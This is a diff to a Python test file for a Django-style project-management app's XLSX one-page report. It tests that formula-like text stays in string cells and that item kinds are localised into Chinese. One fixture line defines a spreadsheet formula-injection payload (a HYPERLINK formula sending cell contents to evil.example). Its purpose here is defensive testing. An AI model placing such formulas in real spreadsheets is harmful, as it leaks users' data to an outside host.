@@ -5,6 +5,7 @@ import io
 from openpyxl import load_workbook
 
 from pmo.portfolio import services
+from pmo.portfolio.models import Project
 from pmo.reports.tests.test_onepage import history
 
 ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
@@ -33,7 +34,26 @@ def test_onepage_xlsx_holds_formula_like_text_as_string_cells(client, users, mak
         (ATTACK, "s"),
         (HELP, "s"),
     ]
+    assert escalation[2].value == "Help needed"  # its kind in words, not the code "help"
     # and figures stay numbers
     percent = projects["INJ1"][13]
     assert (percent.value, percent.data_type) == (40, "n")
     assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)
+
+
+def test_onepage_xlsx_names_kinds_in_the_readers_language(client, users, make_project):
+    make_project(code="ZHK1", manager=users["pm"].person)
+    history(
+        Project.objects.get(code="ZHK1"),
+        ("2026-W45", 1, "execution", None, {"percent_complete": 30}),
+        ("2026-W46", 3, "execution", None, {"help_needed": "需要支持", "percent_complete": 40}),
+    )
+    users["exec"].language = "zh-hans"
+    users["exec"].save()
+    client.force_login(users["exec"])
+    response = client.get("/reports/onepage.xlsx", {"scope": "all", "period": "2026-W46"})
+    wb = load_workbook(io.BytesIO(response.content))
+    kinds = {r[2].value for r in wb.worksheets[2].iter_rows(min_row=2) if r[0].value == "ZHK1"}
+    changes = {r[2].value for r in wb.worksheets[3].iter_rows(min_row=2) if r[0].value == "ZHK1"}
+    assert kinds == {"需要支持"}
+    assert "新增红灯" in changes and "new_red" not in changes
